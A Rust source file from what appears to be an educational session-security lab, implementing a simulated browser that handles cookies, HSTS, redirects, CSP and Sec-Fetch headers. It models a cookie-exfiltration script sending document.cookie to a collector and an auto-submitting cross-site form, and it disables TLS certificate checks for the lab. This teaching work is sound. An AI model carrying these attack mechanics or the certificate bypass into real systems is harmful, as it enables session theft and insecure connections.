//! The browser an actor drives.
//!
//! reqwest only carries bytes here: it has no cookie store, follows no redirects and sees no
//! proxy. Everything a browser decides - which cookies go out, which come in, HSTS upgrades,
//! redirects, Sec-Fetch-* headers, which scripts run - is decided in this crate, in code a
//! learner can read.
use std::collections::HashMap;
use std::sync::{Arc, Mutex, PoisonError};
use std::time::{Duration, SystemTime};

use reqwest::header::{HeaderName, HeaderValue};
use url::{Url, form_urlencoded};

use crate::jar::same_site;
use crate::referrer::ReferrerPolicy;
use crate::script::{
    csp_allows_inline_script, encode_uri_component, is_auto_submit, parse_exfiltration,
};
use crate::{
    CookieDecision, CookieJar, CookieSource, HstsStore, Network, RequestContext, ScriptEffect,
    SetCookieOutcome,
};

/// Why a request could not produce a page. HTTP error statuses (401, 500, ...) are not errors:
/// they are pages, as in a browser.
#[derive(Debug, thiserror::Error)]
pub enum BrowserError {
    #[error("{host} is not a host in the lab network (nothing leaves loopback)")]
    UnknownHost { host: String },
    #[error("could not reach {url}: {reason}")]
    Unreachable { url: String, reason: String },
    #[error("too many redirects from {url}")]
    TooManyRedirects { url: String },
    #[error("bad URL {0}")]
    BadUrl(String),
    #[error("no form with action containing {0:?} on {1}")]
    NoSuchForm(String, String),
    #[error("no link with text or address containing {0:?} on {1}")]
    NoSuchLink(String, String),
}

/// What kind of request it is, which decides its `Sec-Fetch-Mode` and the cookie rules.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum RequestKind {
    /// A top-level navigation: a link, the address bar, a form (`Sec-Fetch-Mode: navigate`).
    Navigation,
    /// A `no-cors` subresource such as an `<img>` (`Sec-Fetch-Mode: no-cors`).
    Subresource,
    /// A script's `fetch(url)` with the defaults: mode `cors` (`Sec-Fetch-Mode: cors`, and an
    /// `Origin` header when it goes to another origin) and credentials `same-origin` (no cookies
    /// go to, or are taken from, another origin).
    Fetch,
}

/// One request an actor makes.
#[derive(Debug, Clone)]
pub struct RequestSpec {
    pub method: String,
    pub url: Url,
    /// urlencoded form body (POST)
    pub form: Option<Vec<(String, String)>>,
    pub kind: RequestKind,
    /// The page that started the request; None = typed URL / bookmark / link in an e-mail.
    pub initiator: Option<Url>,
    pub follow_redirects: bool,
}

impl RequestSpec {
    /// A top-level GET navigation that follows redirects (a link, or the address bar when
    /// `initiator` is None).
    pub fn navigate(url: Url, initiator: Option<Url>) -> Self {
        Self {
            method: "GET".to_string(),
            url,
            form: None,
            kind: RequestKind::Navigation,
            initiator,
            follow_redirects: true,
        }
    }

    /// A top-level form POST that follows redirects, as a submitted `<form method="post">`.
    pub fn post_form(url: Url, fields: Vec<(String, String)>, initiator: Option<Url>) -> Self {
        Self {
            method: "POST".to_string(),
            url,
            form: Some(fields),
            kind: RequestKind::Navigation,
            initiator,
            follow_redirects: true,
        }
    }

    /// A script's `fetch(url)` from the page `initiator`, with fetch's defaults (see
    /// [`RequestKind::Fetch`]); it follows redirects, as `redirect: "follow"` does.
    pub fn script_fetch(url: Url, initiator: Url) -> Self {
        Self {
            method: "GET".to_string(),
            url,
            form: None,
            kind: RequestKind::Fetch,
            initiator: Some(initiator),
            follow_redirects: true,
        }
    }

    /// A no-cors subresource GET (an `<img>`) that does not follow redirects.
    pub fn subresource(url: Url, initiator: Option<Url>) -> Self {
        Self {
            method: "GET".to_string(),
            url,
            form: None,
            kind: RequestKind::Subresource,
            initiator,
            follow_redirects: false,
        }
    }
}

/// One request/response as it crossed the wire, with what the browser decided about it.
#[derive(Debug, Clone)]
pub struct Exchange {
    pub method: String,
    pub url: Url,
    /// Set when HSTS rewrote an http URL before the request left.
    pub upgraded_from: Option<Url>,
    pub request_headers: Vec<(String, String)>,
    pub cookie_decisions: Vec<CookieDecision>,
    pub status: u16,
    pub response_headers: Vec<(String, String)>,
    pub set_cookie_outcomes: Vec<SetCookieOutcome>,
    pub body: String,
}

impl Exchange {
    /// First request header with this (case-insensitive) name.
    pub fn request_header(&self, name: &str) -> Option<&str> {
        first_header(&self.request_headers, name)
    }

    /// First response header with this (case-insensitive) name.
    pub fn response_header(&self, name: &str) -> Option<&str> {
        first_header(&self.response_headers, name)
    }
}

/// An exchange as a tap saw it: which browser made it, and the exchange.
#[derive(Debug, Clone)]
pub struct TappedExchange {
    pub browser: String,
    pub exchange: Exchange,
}

/// A record that several browsers share: every exchange each of them makes, in the order they
/// happened. The attack engine gives one to the browsers of a run, so each step of the run's
/// transcript can show the HTTP its actor caused; a browser without one records only its own
/// [`Browser::exchanges`].
#[derive(Debug, Clone, Default)]
pub struct ExchangeTap(Arc<Mutex<Vec<TappedExchange>>>);

impl ExchangeTap {
    pub fn new() -> Self {
        Self::default()
    }

    /// Removes and returns, in order, the exchanges made by the browsers `of_browser` accepts;
    /// the others stay for a later call.
    pub fn take(&self, of_browser: impl Fn(&str) -> bool) -> Vec<TappedExchange> {
        let mut tapped = self.0.lock().unwrap_or_else(PoisonError::into_inner);
        let (taken, kept): (Vec<_>, Vec<_>) = tapped
            .drain(..)
            .partition(|entry| of_browser(&entry.browser));
        *tapped = kept;
        taken
    }

    fn record(&self, browser: &str, exchange: &Exchange) {
        // A panic elsewhere cannot leave a half-pushed Vec: the record stays usable.
        self.0
            .lock()
            .unwrap_or_else(PoisonError::into_inner)
            .push(TappedExchange {
                browser: browser.to_string(),
                exchange: exchange.clone(),
            });
    }
}

/// The last response of a request (after redirects), with the effect of its scripts.
#[derive(Debug, Clone)]
pub struct Page {
    pub url: Url,
    pub status: u16,
    pub headers: Vec<(String, String)>,
    pub body: String,
    pub scripts: Vec<ScriptEffect>,
}

impl Page {
    /// First header value with this (case-insensitive) name.
    pub fn header(&self, name: &str) -> Option<&str> {
        first_header(&self.headers, name)
    }

    /// The forms on this page, actions resolved against its URL.
    pub fn forms(&self) -> Vec<crate::html::Form> {
        crate::html::forms(&self.body, &self.url)
    }

    /// The trimmed text of the element with this id (e.g. the private note).
    pub fn text_by_id(&self, id: &str) -> Option<String> {
        crate::html::text_by_id(&self.body, id)
    }

    /// The links on this page, hrefs resolved against its URL.
    pub fn links(&self) -> Vec<crate::html::Link> {
        crate::html::links(&self.body, &self.url)
    }
}

/// How many redirects a request may follow (Fetch's limit is 20; the lab needs far fewer).
pub const MAX_REDIRECTS: usize = 10;

/// How long one request may take before it counts as unreachable.
const REQUEST_TIMEOUT: Duration = Duration::from_secs(10);

/// One actor's browser: its own cookie jar, HSTS memory, view of the lab network, and the record
/// of every exchange it made (the evidence a lesson shows).
#[derive(Debug)]
pub struct Browser {
    pub name: String,
    pub jar: CookieJar,
    pub hsts: HstsStore,
    pub network: Network,
    pub exchanges: Vec<Exchange>,
    /// Failures of requests that page scripts made: recorded here, never fatal to the page.
    pub script_errors: Vec<String>,
    client: reqwest::Client,
    clock_offset: Duration,
    /// The `Referrer-Policy` of each document this browser displayed, by URL: what requests
    /// those pages start put in `Referer`.
    referrer_policies: HashMap<Url, ReferrerPolicy>,
    /// Where else this browser's exchanges go, if anyone listens (see [`ExchangeTap`]).
    tap: Option<ExchangeTap>,
}

impl Browser {
    /// A fresh browser (empty jar, no HSTS hosts) for the actor `name`, on the lab `network`.
    ///
    /// The one reqwest client of this browser carries bytes and nothing else: no redirects (the
    /// browser follows them itself, applying its cookie rules at every hop), no proxy, no cookie
    /// store (reqwest's would ignore SameSite, HttpOnly and the prefixes), HTTP/1.1 only (so the
    /// explicit `Host` header is the one on the wire).
    ///
    /// It also accepts any TLS certificate: the lab's certificate is self-signed and made at
    /// start-up. This is the one place where the model is kinder than a real browser, which would
    /// stop at a warning page; the lessons are about sessions, not about PKI.
    ///
    /// # Panics
    /// Only if the TLS backend cannot be initialised at all, which no input can cause.
    pub fn new(name: impl Into<String>, network: Network) -> Self {
        let client = reqwest::Client::builder()
            .redirect(reqwest::redirect::Policy::none())
            .no_proxy()
            .danger_accept_invalid_certs(true)
            .http1_only()
            .timeout(REQUEST_TIMEOUT)
            .build()
            .expect("reqwest's rustls client builds without system configuration");
        Self {
            name: name.into(),
            jar: CookieJar::new(),
            hsts: HstsStore::new(),
            network,
            exchanges: Vec::new(),
            script_errors: Vec::new(),
            client,
            clock_offset: Duration::ZERO,
            referrer_policies: HashMap::new(),
            tap: None,
        }
    }

    /// Copies every exchange this browser makes from now on into `tap` as well.
    pub fn tap_into(&mut self, tap: ExchangeTap) {
        self.tap = Some(tap);
    }

    /// Sends a request as a browser would: HSTS upgrade, cookies from the jar, Set-Cookie into the jar,
    /// redirects (if asked), and for HTML navigations the page's inline scripts through the script model.
    pub async fn request(&mut self, spec: RequestSpec) -> Result<Page, BrowserError> {
        let is_navigation = spec.kind == RequestKind::Navigation;
        let mut page = self.fetch(spec).await?;
        if is_navigation && is_rendered_html(&page) {
            page.scripts = self.run_scripts(&page).await;
        }
        Ok(page)
    }

    /// A top-level GET navigation that follows redirects.
    pub async fn open(&mut self, url: &Url, initiator: Option<&Url>) -> Result<Page, BrowserError> {
        self.request(RequestSpec::navigate(url.clone(), initiator.cloned()))
            .await
    }

    /// Fills and submits the form whose action contains `action_contains` on `page` (a top-level navigation
    /// initiated by that page), keeping the form's other fields (hidden inputs) as they are.
    ///
    /// `values` override fields of the same name (the first one) or are added at the end. A GET
    /// form puts the fields in the action URL's query, as HTML's form submission does.
    pub async fn submit_form(
        &mut self,
        page: &Page,
        action_contains: &str,
        values: &[(&str, &str)],
    ) -> Result<Page, BrowserError> {
        let form = page
            .forms()
            .into_iter()
            .find(|form| form.action.as_str().contains(action_contains))
            .ok_or_else(|| {
                BrowserError::NoSuchForm(action_contains.to_string(), page.url.to_string())
            })?;
        let mut fields = form.fields;
        for (name, value) in values {
            match fields.iter_mut().find(|(field, _)| field == name) {
                Some(field) => field.1 = (*value).to_string(),
                None => fields.push(((*name).to_string(), (*value).to_string())),
            }
        }
        let spec = if form.method == "POST" {
            RequestSpec::post_form(form.action, fields, Some(page.url.clone()))
        } else {
            let mut action = form.action;
            action.set_query(Some(&urlencode(&fields)));
            RequestSpec::navigate(action, Some(page.url.clone()))
        };
        self.request(spec).await
    }

    /// Clicks the first link on `page` whose text or href contains `contains`: a top-level
    /// navigation initiated by that page (so its Referrer-Policy decides the `Referer`).
    pub async fn follow_link(&mut self, page: &Page, contains: &str) -> Result<Page, BrowserError> {
        let link = page
            .links()
            .into_iter()
            .find(|link| link.text.contains(contains) || link.href.as_str().contains(contains))
            .ok_or_else(|| BrowserError::NoSuchLink(contains.to_string(), page.url.to_string()))?;
        self.open(&link.href, Some(&page.url)).await
    }

    /// Now, as the jar and HSTS see it.
    pub fn now(&self) -> SystemTime {
        SystemTime::now() + self.clock_offset
    }

    /// Moves this browser's clock forward, e.g. past the 2-minute Lax+POST window or past a
    /// cookie's Max-Age, without waiting. Only the browser's view of time changes.
    pub fn advance_clock(&mut self, by: Duration) {
        self.clock_offset += by;
    }

    /// The last exchange this browser recorded.
    pub fn last_exchange(&self) -> Option<&Exchange> {
        self.exchanges.last()
    }

    /// Sends `spec` and follows its redirects if asked (Fetch "HTTP-redirect fetch"), up to
    /// [`MAX_REDIRECTS`]. Each hop is a full request of its own: HSTS, cookies and Set-Cookie
    /// apply at every hop, and the original initiator stays the initiator.
    async fn fetch(&mut self, spec: RequestSpec) -> Result<Page, BrowserError> {
        let mut hop = Hop {
            method: spec.method.clone(),
            url: spec.url.clone(),
            form: spec.form.clone(),
            referrer_policy: None,
        };
        for _ in 0..=MAX_REDIRECTS {
            let exchange = self.send_one(&hop, &spec).await?;
            let next = if spec.follow_redirects {
                redirect_hop(&hop, &exchange)
            } else {
                None
            };
            match next {
                Some(next) => hop = next,
                None => {
                    if spec.kind == RequestKind::Navigation {
                        self.remember_referrer_policy(&exchange);
                    }
                    return Ok(Page {
                        url: exchange.url.clone(),
                        status: exchange.status,
                        headers: exchange.response_headers.clone(),
                        body: exchange.body.clone(),
                        scripts: Vec::new(),
                    });
                }
            }
        }
        Err(BrowserError::TooManyRedirects {
            url: spec.url.to_string(),
        })
    }

    /// Remembers the policy a displayed document names (or forgets an old one: no header means
    /// the browser default).
    fn remember_referrer_policy(&mut self, exchange: &Exchange) {
        match referrer_policy_of(&exchange.response_headers) {
            Some(policy) => self.referrer_policies.insert(exchange.url.clone(), policy),
            None => self.referrer_policies.remove(&exchange.url),
        };
    }

    /// One request and its response, recorded as an [`Exchange`].
    async fn send_one(&mut self, hop: &Hop, spec: &RequestSpec) -> Result<Exchange, BrowserError> {
        let now = self.now();
        // Rule 11 (RFC 6797 8.3): the upgrade happens before anything leaves the browser.
        let (url, upgraded_from) = match self.hsts.upgrade(&hop.url, now) {
            Some(upgraded) => (upgraded, Some(hop.url.clone())),
            None => (hop.url.clone(), None),
        };
        if !matches!(url.scheme(), "http" | "https") {
            return Err(BrowserError::BadUrl(format!(
                "{url} (the lab browser speaks http and https only)"
            )));
        }
        let address = self.network.resolve(&url)?;
        let top_level = spec.kind == RequestKind::Navigation;
        let ctx = RequestContext {
            url: &url,
            method: &hop.method,
            top_level,
            initiator: spec.initiator.as_ref(),
        };
        // fetch()'s default credentials mode, "same-origin": another origin gets no cookies.
        let with_credentials = spec.kind != RequestKind::Fetch
            || spec
                .initiator
                .as_ref()
                .is_none_or(|page| page.origin() == url.origin());
        let (cookie_header, cookie_decisions) = if with_credentials {
            self.jar.cookies_for(&ctx, now)
        } else {
            (None, Vec::new())
        };
        let body = hop.form.as_deref().map(urlencode);
        let headers = self.request_headers(&url, hop, spec, cookie_header, body.is_some());

        let method = reqwest::Method::from_bytes(hop.method.as_bytes()).map_err(|_| {
            BrowserError::BadUrl(format!("{url} with the invalid method {:?}", hop.method))
        })?;
        let mut wire_url = url.clone();
        // Connect to the routed socket; the lab host name travels in the Host header.
        wire_url
            .set_ip_host(address.ip())
            .and_then(|()| wire_url.set_port(Some(address.port())))
            .map_err(|()| BrowserError::BadUrl(url.to_string()))?;
        wire_url.set_fragment(None);
        let mut builder = self.client.request(method, wire_url);
        for (name, value) in &headers {
            if let (Ok(name), Ok(value)) = (
                HeaderName::try_from(name.as_str()),
                HeaderValue::from_bytes(value.as_bytes()),
            ) {
                builder = builder.header(name, value);
            }
        }
        if let Some(body) = body {
            builder = builder.body(body);
        }
        let request = builder.build().map_err(|error| unreachable(&url, &error))?;
        let request_headers = header_pairs(request.headers());

        let response = self
            .client
            .execute(request)
            .await
            .map_err(|error| unreachable(&url, &error))?;
        let status = response.status().as_u16();
        let response_headers = header_pairs(response.headers());
        let body = response
            .text()
            .await
            .map_err(|error| unreachable(&url, &error))?;

        // Nor are its cookies stored (a credentials-less response's Set-Cookie is ignored).
        let set_cookie_outcomes = response_headers
            .iter()
            .filter(|_| with_credentials)
            .filter(|(name, _)| name.eq_ignore_ascii_case("set-cookie"))
            .map(|(_, value)| self.jar.set_cookie(&url, value, CookieSource::Http, now))
            .collect();
        // RFC 6797 8.1: only the first Strict-Transport-Security header counts (and only over https,
        // which `observe` checks).
        if let Some(sts) = first_header(&response_headers, "strict-transport-security") {
            self.hsts.observe(&url, sts, now);
        }
        let exchange = Exchange {
            method: hop.method.clone(),
            url,
            upgraded_from,
            request_headers,
            cookie_decisions,
            status,
            response_headers,
            set_cookie_outcomes,
            body,
        };
        if let Some(tap) = &self.tap {
            tap.record(&self.name, &exchange);
        }
        self.exchanges.push(exchange.clone());
        Ok(exchange)
    }

    /// The headers a Chromium-like browser sends, in the order it sends them.
    ///
    /// `Host` names the lab host (the connection goes to the routed address). `Origin` goes with
    /// every POST (Fetch: "null" when there is no initiating page) and with a script's `fetch()`
    /// to another origin (mode `cors`). `Referer` is as much of the initiating page's URL as the
    /// request's referrer policy allows (see [`crate::referrer`]): the page's `Referrer-Policy`,
    /// or the one a redirect on the way named. `Sec-Fetch-Site` / `-Mode` / `-Dest` tell the
    /// server where the request came from, which is what a server-side CSRF defence can check.
    fn request_headers(
        &self,
        url: &Url,
        hop: &Hop,
        spec: &RequestSpec,
        cookie_header: Option<String>,
        has_form_body: bool,
    ) -> Vec<(String, String)> {
        let method = hop.method.as_str();
        let navigation = spec.kind == RequestKind::Navigation;
        let mut headers = vec![
            ("Host".to_string(), host_header(url)),
            (
                "User-Agent".to_string(),
                format!(
                    "sessionlab-browser/{} ({})",
                    env!("CARGO_PKG_VERSION"),
                    self.name
                ),
            ),
            (
                "Accept".to_string(),
                if navigation {
                    "text/html,*/*;q=0.8"
                } else {
                    "*/*"
                }
                .to_string(),
            ),
        ];
        if let Some(cookies) = cookie_header {
            headers.push(("Cookie".to_string(), cookies));
        }
        // Fetch: the request's referrer policy starts as the page's and a redirect may replace it.
        let policy_of = |page: &Url| {
            hop.referrer_policy
                .or_else(|| self.referrer_policies.get(page).copied())
                .unwrap_or(ReferrerPolicy::DEFAULT)
        };
        // The page of a script's fetch() to another origin: a CORS request.
        let cors_from = spec
            .initiator
            .as_ref()
            .filter(|page| spec.kind == RequestKind::Fetch && page.origin() != url.origin());
        if let Some(page) = cors_from {
            // Fetch, "append a request Origin header": a CORS request names its origin as it is;
            // the referrer policy only hides the origin of non-CORS requests.
            headers.push(("Origin".to_string(), page.origin().ascii_serialization()));
        } else if method.eq_ignore_ascii_case("POST") {
            let origin = spec.initiator.as_ref().map_or("null".to_string(), |page| {
                policy_of(page).origin_header(page, url)
            });
            headers.push(("Origin".to_string(), origin));
        }
        if let Some(referrer) = spec
            .initiator
            .as_ref()
            .and_then(|page| policy_of(page).referrer(page, url))
        {
            headers.push(("Referer".to_string(), referrer));
        }
        headers.push((
            "Sec-Fetch-Site".to_string(),
            sec_fetch_site(spec.initiator.as_ref(), url).to_string(),
        ));
        let mode = match spec.kind {
            RequestKind::Navigation => "navigate",
            RequestKind::Subresource => "no-cors",
            RequestKind::Fetch => "cors",
        };
        headers.push(("Sec-Fetch-Mode".to_string(), mode.to_string()));
        headers.push((
            "Sec-Fetch-Dest".to_string(),
            if navigation { "document" } else { "empty" }.to_string(),
        ));
        if has_form_body {
            headers.push((
                "Content-Type".to_string(),
                "application/x-www-form-urlencoded".to_string(),
            ));
        }
        headers
    }

    /// Runs the page's inline scripts through the script model, in document order.
    ///
    /// A script runs only if it is a real `<script>` element of the parsed page and the page's
    /// Content-Security-Policy allows inline script. The exfiltration program reads
    /// `document.cookie` (no HttpOnly cookies) and requests the collector URL; the auto-submit
    /// program sends the page's first form; any other script is ignored.
    async fn run_scripts(&mut self, page: &Page) -> Vec<ScriptEffect> {
        let policy = content_security_policy(&page.headers);
        let mut effects = Vec::new();
        for script in crate::html::inline_scripts_in_place(&page.body) {
            let effect = if !csp_allows_inline_script(policy.as_deref()) {
                ScriptEffect::BlockedByCsp {
                    policy: policy.clone().unwrap_or_default(),
                }
            } else if let Some(collector) = parse_exfiltration(&script.source) {
                self.exfiltrate(&page.url, &collector).await
            } else if is_auto_submit(&script.source) {
                self.auto_submit(page, script.forms_before).await
            } else {
                ScriptEffect::Ignored {
                    excerpt: excerpt(&script.source),
                }
            };
            effects.push(effect);
        }
        effects
    }

    /// The auto-submit program: `document.forms[0].submit()`, HTML's form submission of the
    /// page's first form with its fields as they stand (hidden ones included; `submit()` adds no
    /// button and fires no submit event). It is a top-level navigation started by the page, so
    /// the jar applies SameSite to it as to any cross-site POST, and `Origin` / `Sec-Fetch-Site`
    /// name the page. The script runs where the parser meets it: `forms_before` forms exist then.
    /// The model does not run the scripts of the page the navigation lands on, so a page that
    /// submits to itself cannot loop.
    async fn auto_submit(&mut self, page: &Page, forms_before: usize) -> ScriptEffect {
        let first = page.forms().into_iter().next().filter(|_| forms_before > 0);
        let Some(form) = first else {
            // JavaScript: `document.forms[0]` is undefined, a TypeError.
            self.script_errors.push(format!(
                "document.forms[0].submit() on {}: no form before the script",
                page.url
            ));
            return ScriptEffect::Ignored {
                excerpt: "document.forms[0].submit() with no form before it".to_string(),
            };
        };
        let spec = if form.method == "POST" {
            RequestSpec::post_form(form.action.clone(), form.fields, Some(page.url.clone()))
        } else {
            let mut action = form.action.clone();
            action.set_query(Some(&urlencode(&form.fields)));
            RequestSpec::navigate(action, Some(page.url.clone()))
        };
        let status = match self.fetch(spec).await {
            Ok(landed) => Some(landed.status),
            Err(error) => {
                self.script_errors.push(format!(
                    "form submitted by a script on {}: {error}",
                    page.url
                ));
                None
            }
        };
        ScriptEffect::SubmittedForm {
            action: form.action,
            method: form.method,
            status,
        }
    }

    /// The exfiltration program: `fetch(collector + encodeURIComponent(document.cookie))`, a
    /// script fetch started by the page (mode `cors`: the request goes out and the collector
    /// logs it, whatever CORS later lets the script read). A failed request is recorded in
    /// `script_errors`.
    async fn exfiltrate(&mut self, page_url: &Url, collector: &str) -> ScriptEffect {
        let document_cookie = self.jar.document_cookie(page_url, self.now());
        let target = format!("{collector}{}", encode_uri_component(&document_cookie));
        let request = match page_url.join(&target) {
            Ok(request) => request,
            Err(error) => {
                self.script_errors
                    .push(format!("fetch({target:?}) on {page_url}: {error}"));
                return ScriptEffect::Ignored {
                    excerpt: excerpt(&format!("fetch('{collector}'...) to an invalid URL")),
                };
            }
        };
        let spec = RequestSpec::script_fetch(request.clone(), page_url.clone());
        if let Err(error) = self.fetch(spec).await {
            self.script_errors
                .push(format!("fetch from a script on {page_url}: {error}"));
        }
        ScriptEffect::Exfiltrated {
            document_cookie,
            request,
        }
    }
}

/// One hop of a redirect chain: what to request next.
#[derive(Debug, Clone)]
struct Hop {
    method: String,
    url: Url,
    form: Option<Vec<(String, String)>>,
    /// Set when a redirect on the way named a `Referrer-Policy` (Fetch, "set request's referrer
    /// policy on redirect"); until then the initiating page's policy applies.
    referrer_policy: Option<ReferrerPolicy>,
}

/// The policy a response's `Referrer-Policy` headers name: the last token the browser knows.
fn referrer_policy_of(headers: &[(String, String)]) -> Option<ReferrerPolicy> {
    headers
        .iter()
        .filter(|(name, _)| name.eq_ignore_ascii_case("referrer-policy"))
        .filter_map(|(_, value)| ReferrerPolicy::parse(value))
        .next_back()
}

/// Fetch "HTTP-redirect fetch": the next hop for a redirect response, if it is one with a usable
/// `Location` (resolved against the current URL). 301/302 turn a POST into a body-less GET and 303
/// turns anything but GET/HEAD into one (what browsers do, so a form POST lands on a page);
/// 307/308 repeat the same method and body. A `Referrer-Policy` on the redirect response becomes
/// the request's policy for the hops that follow.
fn redirect_hop(current: &Hop, exchange: &Exchange) -> Option<Hop> {
    if !matches!(exchange.status, 301 | 302 | 303 | 307 | 308) {
        return None;
    }
    let location = exchange.response_header("location")?;
    let url = exchange.url.join(location.trim()).ok()?;
    let becomes_get = match exchange.status {
        301 | 302 => current.method.eq_ignore_ascii_case("POST"),
        303 => {
            !(current.method.eq_ignore_ascii_case("GET")
                || current.method.eq_ignore_ascii_case("HEAD"))
        }
        _ => false,
    };
    let referrer_policy =
        referrer_policy_of(&exchange.response_headers).or(current.referrer_policy);
    Some(if becomes_get {
        Hop {
            method: "GET".to_string(),
            url,
            form: None,
            referrer_policy,
        }
    } else {
        Hop {
            method: current.method.clone(),
            url,
            form: current.form.clone(),
            referrer_policy,
        }
    })
}

/// Sec-Fetch-Site (Fetch Metadata): `none` for a user-started request, `same-origin`,
/// `same-site` (e.g. `evil.lab.test` -> `app.lab.test`) or `cross-site`.
fn sec_fetch_site(initiator: Option<&Url>, target: &Url) -> &'static str {
    match initiator {
        None => "none",
        Some(page) if page.origin() == target.origin() => "same-origin",
        Some(page) if same_site(page, target) => "same-site",
        Some(_) => "cross-site",
    }
}

/// The `Host` header: the lab host, with the port when it is not the scheme's default.
fn host_header(url: &Url) -> String {
    let host = url.host_str().unwrap_or_default();
    match url.port() {
        Some(port) => format!("{host}:{port}"),
        None => host.to_string(),
    }
}

/// All `Content-Security-Policy` headers of a response, joined with ", " (each one is enforced).
/// `Content-Security-Policy-Report-Only` blocks nothing and is not read.
fn content_security_policy(headers: &[(String, String)]) -> Option<String> {
    let policies: Vec<&str> = headers
        .iter()
        .filter(|(name, _)| name.eq_ignore_ascii_case("content-security-policy"))
        .map(|(_, value)| value.as_str())
        .collect();
    (!policies.is_empty()).then(|| policies.join(", "))
}

/// Whether a browser would render this response as an HTML page (and so run its scripts):
/// an HTML content type and not a redirect.
fn is_rendered_html(page: &Page) -> bool {
    let html = page
        .header("content-type")
        .is_some_and(|kind| kind.to_ascii_lowercase().contains("text/html"));
    html && !(300..400).contains(&page.status)
}

/// The first 80 characters of a script, whitespace collapsed, for reports.
fn excerpt(script: &str) -> String {
    let collapsed = script.split_whitespace().collect::<Vec<_>>().join(" ");
    let mut excerpt: String = collapsed.chars().take(80).collect();
    if collapsed.chars().count() > 80 {
        excerpt.push_str("...");
    }
    excerpt
}

/// `application/x-www-form-urlencoded` serialisation of form fields.
fn urlencode(fields: &[(String, String)]) -> String {
    form_urlencoded::Serializer::new(String::new())
        .extend_pairs(fields)
        .finish()
}

/// Headers as (name, value) strings; a non-UTF-8 value is shown lossily rather than dropped.
fn header_pairs(headers: &reqwest::header::HeaderMap) -> Vec<(String, String)> {
    headers
        .iter()
        .map(|(name, value)| {
            (
                name.as_str().to_string(),
                String::from_utf8_lossy(value.as_bytes()).into_owned(),
            )
        })
        .collect()
}

/// The first value of a header, names compared case-insensitively as HTTP requires.
fn first_header<'a>(headers: &'a [(String, String)], name: &str) -> Option<&'a str> {
    headers
        .iter()
        .find(|(n, _)| n.eq_ignore_ascii_case(name))
        .map(|(_, v)| v.as_str())
}

/// A transport error as `Unreachable`, with the whole error chain as the reason ("error sending
/// request: client error (Connect): tcp connect error: Connection refused (os error 111)").
fn unreachable(url: &Url, error: &(dyn std::error::Error + 'static)) -> BrowserError {
    let mut parts = vec![error.to_string()];
    let mut source = error.source();
    while let Some(cause) = source {
        let text = cause.to_string();
        if !parts.iter().any(|part| part.contains(&text)) {
            parts.push(text);
        }
        source = cause.source();
    }
    BrowserError::Unreachable {
        url: url.to_string(),
        reason: parts.join(": "),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn url(text: &str) -> Url {
        Url::parse(text).expect("test URL")
    }

    fn exchange(status: u16, at: &str, location: Option<&str>) -> Exchange {
        Exchange {
            method: "POST".into(),
            url: url(at),
            upgraded_from: None,
            request_headers: Vec::new(),
            cookie_decisions: Vec::new(),
            status,
            response_headers: location
                .map(|l| vec![("location".to_string(), l.to_string())])
                .unwrap_or_default(),
            set_cookie_outcomes: Vec::new(),
            body: String::new(),
        }
    }

    fn post_hop() -> Hop {
        Hop {
            method: "POST".into(),
            url: url("http://app.lab.test:1/login"),
            form: Some(vec![("a".into(), "1".into())]),
            referrer_policy: None,
        }
    }

    #[test]
    fn redirects_303_and_302_turn_post_into_get() {
        for status in [301, 302, 303] {
            let next = redirect_hop(
                &post_hop(),
                &exchange(status, "http://app.lab.test:1/login", Some("/account")),
            )
            .expect("a redirect");
            assert_eq!(
                (next.method.as_str(), next.url.as_str()),
                ("GET", "http://app.lab.test:1/account")
            );
            assert!(next.form.is_none());
        }
    }

    #[test]
    fn redirects_307_and_308_keep_method_and_body() {
        for status in [307, 308] {
            let next = redirect_hop(
                &post_hop(),
                &exchange(status, "http://app.lab.test:1/a/b", Some("c")),
            )
            .expect("a redirect");
            assert_eq!(
                (next.method.as_str(), next.url.as_str()),
                ("POST", "http://app.lab.test:1/a/c")
            );
            assert!(next.form.is_some());
        }
    }

    #[test]
    fn no_location_or_no_redirect_status_stops() {
        assert!(
            redirect_hop(&post_hop(), &exchange(302, "http://app.lab.test:1/", None)).is_none()
        );
        assert!(
            redirect_hop(
                &post_hop(),
                &exchange(200, "http://app.lab.test:1/", Some("/x"))
            )
            .is_none()
        );
        assert!(
            redirect_hop(
                &post_hop(),
                &exchange(304, "http://app.lab.test:1/", Some("/x"))
            )
            .is_none()
        );
    }

    #[test]
    fn sec_fetch_site_values() {
        let app = url("http://app.lab.test:1/x");
        assert_eq!(sec_fetch_site(None, &app), "none");
        assert_eq!(
            sec_fetch_site(Some(&url("http://app.lab.test:1/y")), &app),
            "same-origin"
        );
        assert_eq!(
            sec_fetch_site(Some(&url("http://evil.lab.test:2/")), &app),
            "same-site"
        );
        assert_eq!(
            sec_fetch_site(Some(&url("http://app.lab.test:2/")), &app),
            "same-site"
        );
        assert_eq!(
            sec_fetch_site(Some(&url("https://app.lab.test:1/")), &app),
            "cross-site"
        );
        assert_eq!(
            sec_fetch_site(Some(&url("http://evil.example/")), &app),
            "cross-site"
        );
    }

    #[test]
    fn host_header_keeps_non_default_ports() {
        assert_eq!(
            host_header(&url("http://app.lab.test:4000/")),
            "app.lab.test:4000"
        );
        assert_eq!(host_header(&url("https://app.lab.test/")), "app.lab.test");
    }

    #[test]
    fn csp_headers_are_joined() {
        let headers = vec![
            (
                "content-security-policy".to_string(),
                "script-src 'unsafe-inline'".to_string(),
            ),
            (
                "Content-Security-Policy".to_string(),
                "default-src 'self'".to_string(),
            ),
        ];
        assert_eq!(
            content_security_policy(&headers).as_deref(),
            Some("script-src 'unsafe-inline', default-src 'self'")
        );
        assert_eq!(content_security_policy(&[]), None);
    }

    #[test]
    fn excerpts_are_short() {
        assert_eq!(excerpt("  alert(1)\n  "), "alert(1)");
        assert_eq!(excerpt(&"x".repeat(100)).len(), 83);
    }

    #[test]
    fn request_future_is_send() {
        fn assert_send<T: Send>(_: &T) {}
        let mut browser = Browser::new("victim", Network::new());
        let future = browser.request(RequestSpec::navigate(url("http://app.lab.test:1/"), None));
        assert_send(&future);
    }
}
